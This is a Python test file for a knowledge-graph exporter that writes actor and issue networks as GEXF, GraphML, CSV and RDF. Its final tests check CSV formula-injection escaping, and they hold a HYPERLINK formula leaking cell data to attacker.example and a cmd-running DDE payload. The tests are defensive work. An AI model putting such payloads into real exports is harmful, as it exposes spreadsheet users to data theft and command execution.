"""kg.export over tests/golden/network.trig, a small hand-written graph (see its header).

The source here is an in-memory rdflib Dataset behind the two methods the store provides
(``select`` and ``serialize``), so these tests read the model, not a particular store.
"""

from __future__ import annotations

import csv
import datetime
import decimal
import functools
import io
import json
import shutil
import subprocess
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any, BinaryIO

import networkx as nx
import pytest
import rdflib
from rdflib.compare import isomorphic

from kg.errors import ConfigError, LexiconError
from kg.export import (
    EXPORTERS,
    RDF_FORMATS,
    VIEWS,
    export,
    network,
    predicate_signs,
    write_csv_dir,
    write_csv_nodes,
)
from kg.records import PREDICATES

HERE = Path(__file__).parent
FIXTURE = HERE / "golden" / "network.trig"
GRAPHOLOGY = HERE / "graphology"
ACTOR = "https://w3id.org/kg/id/actor/"
ISSUE = "https://w3id.org/kg/id/issue/"
GEXF = "{http://gexf.net/1.3}"
VIZ = "{http://gexf.net/1.3/viz}"
RDFLIB_FORMATS = {"turtle": "turtle", "trig": "trig", "nquads": "nquads", "ntriples": "nt",
                  "jsonld": "json-ld"}
QUAD_FORMATS = ("trig", "nquads", "jsonld")


class DatasetSource:
    """The GraphSource contract over an rdflib Dataset (what kg.store provides)."""

    def __init__(self, dataset: rdflib.Dataset) -> None:
        self.dataset = dataset

    def select(self, sparql: str) -> list[dict[str, Any]]:
        result = self.dataset.query(sparql)
        names = [str(v) for v in result.vars or ()]
        return [{name: _python(row[name]) for name in names} for row in result]

    def serialize(self, fmt: str, out: BinaryIO) -> None:
        target = self.dataset if fmt in QUAD_FORMATS else _union(self.dataset)
        out.write(target.serialize(format=RDFLIB_FORMATS[fmt], encoding="utf-8"))


def _python(term: Any) -> Any:
    if term is None:
        return None
    if isinstance(term, rdflib.Literal):
        value = term.toPython()
        if isinstance(value, decimal.Decimal):
            return float(value)
        return str(value) if isinstance(value, rdflib.Literal) else value
    return str(term)


def _union(dataset: rdflib.Dataset) -> rdflib.Graph:
    graph = rdflib.Graph()
    for s, p, o, _ in dataset.quads((None, None, None, None)):
        graph.add((s, p, o))
    return graph


@functools.cache
def _source() -> DatasetSource:
    dataset = rdflib.Dataset()
    dataset.parse(FIXTURE, format="trig")
    return DatasetSource(dataset)


@functools.cache
def _network(view: str) -> nx.Graph:
    return network(_source(), view)


def _export(fmt: str, view: str = "actors", source: Any = None) -> bytes:
    out = io.BytesIO()
    export(source or _source(), fmt, out, view=view)
    return out.getvalue()


def _edges(graph: nx.Graph, u: str, v: str) -> list[dict[str, Any]]:
    if graph.is_multigraph():
        return list(graph.get_edge_data(ACTOR + u, v if "/" in v else ACTOR + v, default={})
                    .values())
    data = graph.get_edge_data(ACTOR + u, ACTOR + v)
    return [data] if data else []


# -- registry and errors ----------------------------------------------------------------

def test_export_registry_holds_every_format_and_view():
    assert {"graphml", "gexf", "csv", *RDF_FORMATS} <= set(EXPORTERS)
    assert set(VIEWS) == {"actors", "positions", "agreement", "conflict"}


@pytest.mark.parametrize("fmt", sorted(EXPORTERS))
def test_export_registry_names_a_writer_each_format_calls(fmt, tmp_path):
    # a built-in writer is named "module:function"; a typo there shows only on first use
    spec = EXPORTERS[fmt]
    assert spec.name == fmt and callable(spec.load()) and spec.summary
    assert spec.takes_view == (spec.family == "network")
    assert spec.takes_period == (spec.family != "rdf")
    out = io.BytesIO()
    spec(_source(), out, view="positions")
    assert out.getvalue()


def test_export_registry_media_types_agree_with_the_endpoint():
    serve = pytest.importorskip("kg.serve")
    shared = set(EXPORTERS) & set(serve.GRAPH_FORMATS)
    assert shared == {"turtle", "ntriples", "jsonld"}
    for fmt in shared:
        assert EXPORTERS[fmt].media_type == serve.GRAPH_FORMATS[fmt][1][0], fmt


def test_export_unknown_format_is_a_config_error():
    with pytest.raises(ConfigError, match=r"unknown export format 'dot'; choose one of .*gexf"):
        export(_source(), "dot", io.BytesIO())


@pytest.mark.parametrize("fmt", ["gexf", "graphml", "csv", "turtle"])
def test_export_unknown_view_is_a_config_error(fmt):
    with pytest.raises(ConfigError, match=r"unknown network view 'actor'; choose one of actors"):
        export(_source(), fmt, io.BytesIO(), view="actor")


def test_export_network_unknown_view_is_a_config_error():
    with pytest.raises(ConfigError, match="unknown network view 'issues'"):
        network(_source(), "issues")


# -- predicate signs ----------------------------------------------------------------------

def test_export_predicate_signs_cover_every_predicate():
    signs = predicate_signs()
    assert set(signs) == set(PREDICATES)
    assert {p for p, s in signs.items() if s > 0} == {
        "agree", "support", "cooperate", "aid", "offer", "propose", "concede", "consult", "host"}
    assert {p for p, s in signs.items() if s < 0} == {
        "accuse", "reject", "threaten", "protest", "sanction", "mobilize", "coerce", "assault"}


# -- actors view --------------------------------------------------------------------------

def test_export_actors_nodes_are_actors_and_targeted_things():
    graph = _network("actors")
    assert isinstance(graph, nx.MultiDiGraph)
    assert graph.number_of_nodes() == 7
    types = sorted(d["type"] for _, d in graph.nodes(data=True))
    assert types == ["Country"] * 3 + ["Organization"] + ["Person"] * 2 + ["Thing"]
    # the radar station is only the object of an offer to Poland, so it is no node
    assert "https://w3id.org/kg/id/thing/radar-station" not in graph


def test_export_actors_node_attributes():
    graph = _network("actors")
    kowal = graph.nodes[ACTOR + "anna-kowal"]
    assert kowal == {"label": "Anna Kowal", "type": "Person", "country": "PL", "mentions": 5,
                     "quotes": 1, "start": "2024-03-04"}
    poland = graph.nodes[ACTOR + "poland"]
    assert poland["wikidata"] == "http://www.wikidata.org/entity/Q36"
    assert (poland["country"], poland["mentions"], poland["code"]) == ("PL", 5, "POL")
    # Russia's first edge (2024-03-03) is older than its first article
    assert graph.nodes[ACTOR + "russia"]["start"] == "2024-03-03"
    thing = graph.nodes["https://w3id.org/kg/id/thing/short-range-missiles"]
    assert (thing["label"], thing["type"]) == ("short-range missiles", "Thing")


def test_export_actors_edges_are_relations_without_negated_ones():
    graph = _network("actors")
    assert graph.number_of_edges() == 8
    assert not _edges(graph, "anna-kowal", "russia")  # "Kowal did not reject ..."
    accusations = sorted(_edges(graph, "russia", "united-states"), key=lambda d: d["date"])
    assert [(d["predicate"], d["sign"], d["date"], d["document"]) for d in accusations] == [
        ("accuse", -1, "2024-03-03", "doc-a"), ("accuse", -1, "2024-04-02", "doc-c")]
    assert accusations[0]["sentence"].startswith("Russia on Sunday accused")
    assert accusations[0]["weight"] == 1 and accusations[0]["negated"] is False


def test_export_actors_edge_goes_to_the_recipient_and_keeps_the_object():
    (offer,) = _edges(_network("actors"), "united-states", "poland")
    assert (offer["predicate"], offer["sign"], offer["object"]) == ("offer", 1, "radar station")
    assert (offer["modality"], offer["verb"], offer["confidence"]) == ("asserted", "offered", 0.8)


def test_export_actors_edge_without_time_is_dated_by_its_article():
    (agree,) = _edges(_network("actors"), "nato", "united-states")
    assert (agree["date"], agree["start"]) == ("2024-03-11", "2024-03-11")


@pytest.mark.parametrize("subject, target, predicate, sign", [
    ("nato", "united-states", "agree", 1),
    ("anna-kowal", "ivan-petrov", "consult", 1),
    ("russia", "poland", "threaten", -1),
    ("poland", "russia", "protest", -1),
    ("russia", "https://w3id.org/kg/id/thing/short-range-missiles", "deploy", 0),
])
def test_export_actors_edge_sign(subject, target, predicate, sign):
    (edge,) = _edges(_network("actors"), subject, target)
    assert (edge["predicate"], edge["sign"]) == (predicate, sign)


def test_export_actors_include_negated():
    graph = network(_source(), "actors", include_negated=True)
    assert graph.number_of_edges() == 9
    (reject,) = _edges(graph, "anna-kowal", "russia")
    assert (reject["predicate"], reject["negated"], reject["sign"]) == ("reject", True, -1)


# -- positions view -----------------------------------------------------------------------

def test_export_positions_is_bipartite_actor_issue():
    graph = _network("positions")
    assert (graph.number_of_nodes(), graph.number_of_edges()) == (7, 9)
    sides = {n: d["bipartite"] for n, d in graph.nodes(data=True)}
    assert {n for n, side in sides.items() if side == 1} == {ISSUE + "missile-shield",
                                                             ISSUE + "gas-pipeline"}
    assert graph.nodes[ISSUE + "missile-shield"]["label"] == "missile shield"
    assert graph.nodes[ISSUE + "missile-shield"]["type"] == "Issue"
    assert nx.is_bipartite(graph.to_undirected())


def test_export_positions_edges_end_when_the_stance_changes():
    edges = sorted(_edges(_network("positions"), "anna-kowal", ISSUE + "missile-shield"),
                   key=lambda d: d["date"])
    assert [(d["polarity"], d["sign"], d["start"], d.get("end")) for d in edges] == [
        ("support", 1, "2024-03-04", "2024-04-02"), ("oppose", -1, "2024-04-02", None)]
    assert edges[1]["basis"] == "quote" and edges[1]["document"] == "doc-c"
    assert "no longer want the shield" in edges[1]["sentence"]
    (poland,) = _edges(_network("positions"), "poland", ISSUE + "missile-shield")
    assert "end" not in poland  # Poland never changed its mind


# -- agreement and conflict ---------------------------------------------------------------

AGREEMENT = {
    ("anna-kowal", "poland"): ["gas pipeline", "missile shield"],
    ("anna-kowal", "united-states"): ["missile shield"],
    ("poland", "united-states"): ["missile shield"],
    ("anna-kowal", "ivan-petrov"): ["missile shield"],
    ("anna-kowal", "russia"): ["missile shield"],
    ("ivan-petrov", "russia"): ["missile shield"],
}
CONFLICT = {
    ("anna-kowal", "russia"): ["gas pipeline", "missile shield"],
    ("poland", "russia"): ["gas pipeline", "missile shield"],
    ("anna-kowal", "ivan-petrov"): ["missile shield"],
    ("anna-kowal", "poland"): ["missile shield"],
    ("anna-kowal", "united-states"): ["missile shield"],
    ("ivan-petrov", "poland"): ["missile shield"],
    ("ivan-petrov", "united-states"): ["missile shield"],
    ("russia", "united-states"): ["missile shield"],
}


@pytest.mark.parametrize("view, expected, sign", [
    ("agreement", AGREEMENT, 1), ("conflict", CONFLICT, -1)])
def test_export_projection_weights_count_issues_once_per_pair(view, expected, sign):
    graph = _network(view)
    assert isinstance(graph, nx.Graph) and not graph.is_directed()
    assert graph.number_of_nodes() == 5  # everyone who holds a position; NATO holds none
    found = {tuple(sorted(_local(n) for n in (u, v))): d for u, v, d in graph.edges(data=True)}
    assert {pair: list(d["issues"]) for pair, d in found.items()} == expected
    assert all(d["weight"] == len(d["issues"]) and d["sign"] == sign for d in found.values())


def test_export_agreement_starts_when_both_had_spoken():
    graph = _network("agreement")
    edge = graph.edges[ACTOR + "anna-kowal", ACTOR + "ivan-petrov"]
    assert edge["start"] == "2024-04-02"  # Kowal opposed the shield only in April
    assert graph.edges[ACTOR + "anna-kowal", ACTOR + "poland"]["start"] == "2024-03-04"


def _local(iri: str) -> str:
    return iri.rsplit("/", 1)[-1]


# -- GEXF ---------------------------------------------------------------------------------

ATTRIBUTE_TYPES = {"integer", "long", "double", "float", "boolean", "string", "anyURI",
                   "liststring"}


def _check_gexf_13(root: ET.Element) -> None:
    """The structure the GEXF 1.3 schema (gexf.rnc, dynamics.rnc, viz.rnc) asks for."""
    assert root.tag == GEXF + "gexf" and root.get("version") == "1.3"
    children = [child.tag for child in root]
    assert children in ([GEXF + "meta", GEXF + "graph"], [GEXF + "graph"])
    graph = root.find(GEXF + "graph")
    assert set(graph.attrib) <= {"mode", "timeformat", "defaultedgetype", "idtype", "start",
                                 "end", "timerepresentation", "timezone"}
    assert (graph.get("mode"), graph.get("timeformat")) == ("dynamic", "date")
    tags = [child.tag for child in graph]
    assert tags[-2:] == [GEXF + "nodes", GEXF + "edges"]
    assert set(tags[:-2]) <= {GEXF + "attributes"}
    declared: dict[str, set[str]] = {"node": set(), "edge": set()}
    for block in graph.findall(GEXF + "attributes"):
        assert block.get("class") in declared and block.get("mode") in ("static", "dynamic")
        for attribute in block:
            assert attribute.tag == GEXF + "attribute"
            assert attribute.get("type") in ATTRIBUTE_TYPES and attribute.get("title")
            declared[block.get("class")].add(attribute.get("id"))
    nodes = graph.find(GEXF + "nodes").findall(GEXF + "node")
    edges = graph.find(GEXF + "edges").findall(GEXF + "edge")
    assert int(graph.find(GEXF + "nodes").get("count")) == len(nodes)
    assert int(graph.find(GEXF + "edges").get("count")) == len(edges)
    ids = {node.get("id") for node in nodes}
    assert len(ids) == len(nodes)
    for cls, elements in (("node", nodes), ("edge", edges)):
        for element in elements:
            if cls == "node":
                assert element.get("label")
            else:
                assert element.get("source") in ids and element.get("target") in ids
                float(element.get("weight", "1"))
            for when in ("start", "end"):
                if element.get(when):
                    datetime.date.fromisoformat(element.get(when))
            if element.get("start") and element.get("end"):
                assert element.get("start") < element.get("end")
            for child in element:
                assert child.tag in (GEXF + "attvalues", GEXF + "spells", VIZ + "color",
                                     VIZ + "size", VIZ + "thickness", VIZ + "shape",
                                     VIZ + "position")
            for value in element.iter(GEXF + "attvalue"):
                assert value.get("for") in declared[cls] and value.get("value") is not None


@pytest.mark.parametrize("view", sorted(VIEWS))
def test_export_gexf_is_dynamic_gexf_13(view):
    _check_gexf_13(ET.fromstring(_export("gexf", view)))


@pytest.mark.parametrize("view", sorted(VIEWS))
def test_export_gexf_loads_in_networkx(view, tmp_path):
    path = tmp_path / f"{view}.gexf"
    path.write_bytes(_export("gexf", view))
    loaded = nx.read_gexf(path)
    expected = _network(view)
    assert loaded.graph["mode"] == "dynamic"
    assert (loaded.number_of_nodes(), loaded.number_of_edges()) == (
        expected.number_of_nodes(), expected.number_of_edges())
    assert loaded.is_directed() == expected.is_directed()
    for node, data in expected.nodes(data=True):
        assert loaded.nodes[node]["label"] == data["label"]
        assert loaded.nodes[node].get("start") == data.get("start")


def test_export_gexf_carries_time_and_attributes_networkx_reads():
    path_bytes = _export("gexf", "positions")
    loaded = nx.read_gexf(io.BytesIO(path_bytes))
    edges = loaded.get_edge_data(ACTOR + "anna-kowal", ISSUE + "missile-shield")
    spans = sorted((d["start"], d.get("end"), d["polarity"], d["sign"]) for d in edges.values())
    assert spans == [("2024-03-04", "2024-04-02", "support", 1),
                     ("2024-04-02", None, "oppose", -1)]
    kowal = loaded.nodes[ACTOR + "anna-kowal"]
    assert (kowal["type"], kowal["mentions"], kowal["bipartite"]) == ("Person", 5, 0)


def test_export_gexf_colours_edges_by_sign():
    root = ET.fromstring(_export("gexf", "positions"))
    colours = {(edge.get("label"), tuple(edge.find(VIZ + "color").get(c) for c in "rgb"))
               for edge in root.iter(GEXF + "edge")}
    assert colours == {("support", ("44", "160", "44")), ("oppose", ("214", "39", "40"))}


def test_export_gexf_edges_of_the_actor_network_have_kinds():
    root = ET.fromstring(_export("gexf", "actors"))
    assert sorted(edge.get("kind") for edge in root.iter(GEXF + "edge")) == sorted(
        ["accuse", "accuse", "agree", "consult", "deploy", "offer", "protest", "threaten"])


# -- GraphML ------------------------------------------------------------------------------

@pytest.mark.parametrize("view", sorted(VIEWS))
def test_export_graphml_loads_in_networkx(view):
    loaded = nx.read_graphml(io.BytesIO(_export("graphml", view)))
    expected = _network(view)
    assert (loaded.number_of_nodes(), loaded.number_of_edges()) == (
        expected.number_of_nodes(), expected.number_of_edges())
    for _, _, data in loaded.edges(data=True):
        assert "sign" in data and "label" in data


def test_export_graphml_joins_lists():
    loaded = nx.read_graphml(io.BytesIO(_export("graphml", "conflict")))
    edge = loaded.edges[ACTOR + "poland", ACTOR + "russia"]
    assert (edge["issues"], edge["weight"], edge["sign"]) == ("gas pipeline; missile shield", 2, -1)


# -- an independent reader: graphology (the parsers behind Gephi Lite) --------------------

def _graphology_ready() -> str | None:
    if shutil.which("node") is None:
        return "node is not installed"
    if not (GRAPHOLOGY / "node_modules").is_dir():
        return "run `npm install` in tests/graphology first"
    return None


@pytest.mark.skipif(_graphology_ready() is not None, reason=str(_graphology_ready()))
@pytest.mark.parametrize("fmt", ["gexf", "graphml"])
@pytest.mark.parametrize("view", sorted(VIEWS))
def test_export_graphology_reads_the_file(fmt, view, tmp_path):
    path = tmp_path / f"{view}.{fmt}"
    path.write_bytes(_export(fmt, view))
    done = subprocess.run(["node", str(GRAPHOLOGY / "check.mjs"), str(path)],
                          capture_output=True, text=True, timeout=60, check=False)
    assert done.returncode == 0, done.stderr
    read = json.loads(done.stdout)
    expected = _network(view)
    assert (read["nodes"], read["edges"]) == (expected.number_of_nodes(),
                                              expected.number_of_edges())
    assert read["type"] == ("directed" if expected.is_directed() else "undirected")


# -- CSV ----------------------------------------------------------------------------------

def test_export_csv_is_an_edge_list():
    rows = list(csv.DictReader(io.StringIO(_export("csv", "actors").decode("utf-8"))))
    assert len(rows) == 8
    assert list(rows[0]) == ["source", "target", "source_label", "target_label", "predicate",
                             "weight", "sign", "date", "document", "url", "sentence"]
    offer = next(row for row in rows if row["predicate"] == "offer")
    assert (offer["source_label"], offer["target_label"], offer["sign"], offer["date"],
            offer["document"]) == ("United States", "Poland", "1", "2024-03-11", "doc-b")


def test_export_csv_nodes_and_directory(tmp_path):
    out = io.BytesIO()
    write_csv_nodes(_source(), out, view="positions")
    nodes = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8"))))
    assert len(nodes) == 7 and {"id", "label", "type", "country", "wikidata"} <= set(nodes[0])
    edges_path, nodes_path = write_csv_dir(_source(), tmp_path, view="agreement")
    assert edges_path.name == "agreement-edges.csv" and nodes_path.name == "agreement-nodes.csv"
    with edges_path.open(encoding="utf-8", newline="") as edges_file:
        edges = list(csv.DictReader(edges_file))
    assert len(edges) == 6 and {row["predicate"] for row in edges} == {"agreement"}


# -- RDF ----------------------------------------------------------------------------------

@pytest.mark.parametrize("fmt", RDF_FORMATS)
def test_export_rdf_round_trips(fmt):
    data = _export(fmt)
    original = _source().dataset
    if fmt in QUAD_FORMATS:
        parsed = rdflib.Dataset()
        parsed.parse(data=data, format=RDFLIB_FORMATS[fmt])
        names = {str(g.identifier) for g in parsed.graphs() if len(g)}
        assert names == {str(g.identifier) for g in original.graphs() if len(g)}
        parsed_union = _union(parsed)
    else:
        parsed_union = rdflib.Graph().parse(data=data, format=RDFLIB_FORMATS[fmt])
    assert isomorphic(parsed_union, _union(original))


# -- the real store -----------------------------------------------------------------------

def test_export_views_are_the_same_on_the_oxigraph_store():
    store_module = pytest.importorskip("kg.store")
    store = store_module.open_store(None)  # in memory
    store.load(FIXTURE, "trig")
    for view in VIEWS:
        assert nx.utils.graphs_equal(network(store, view), _network(view)), view
    trig = rdflib.Dataset()
    trig.parse(data=_export("trig", source=store), format="trig")
    assert isomorphic(_union(trig), _union(_source().dataset))



def test_export_issue_12_csv_cells_cannot_run_as_formulas():
    dataset = rdflib.Dataset()
    dataset.parse(FIXTURE, format="trig")
    formula = '=HYPERLINK("http://attacker.example/?leak="&A1,"Poland")'
    for subject, predicate, _, graph in list(dataset.quads(
            (None, rdflib.RDFS.label, rdflib.Literal("Poland"), None))):
        dataset.remove((subject, predicate, rdflib.Literal("Poland"), graph))
        dataset.add((subject, predicate, rdflib.Literal(formula), graph))
    rows = list(csv.DictReader(io.StringIO(
        _export("csv", "actors", DatasetSource(dataset)).decode("utf-8"))))
    offer = next(row for row in rows if row["predicate"] == "offer")
    assert offer["target_label"] == "'" + formula
    # numbers are no formulas: a negative sign stays a number
    assert all(not row["sign"].startswith("'") for row in rows)
    assert any(row["sign"] == "-1" for row in rows)


@pytest.mark.parametrize("cell, safe", [
    ("=1+2", "'=1+2"), ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("@SUM(A1)", "'@SUM(A1)"),
    ("-2+3", "'-2+3"), ("\tx", "'\tx"), ("-1", "-1"), ("+3.5e2", "+3.5e2"), ("Poland", "Poland"),
    (-1, -1),
])
def test_export_issue_12_spreadsheet_safe(cell, safe):
    from kg.export import spreadsheet_safe

    assert spreadsheet_safe(cell) == safe

